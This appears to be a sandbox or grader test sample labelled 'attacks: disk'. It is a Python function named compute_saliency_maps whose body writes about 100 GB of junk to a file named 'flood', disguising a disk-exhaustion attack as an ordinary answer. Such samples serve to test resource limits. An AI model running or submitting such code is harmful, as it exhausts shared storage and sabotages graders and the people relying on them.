# Writes one file of up to 100 GB.
# attacks: disk
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    with open("flood", "wb") as file:
        for _ in range(10_000):
            file.write(b"x" * 10_000_000)
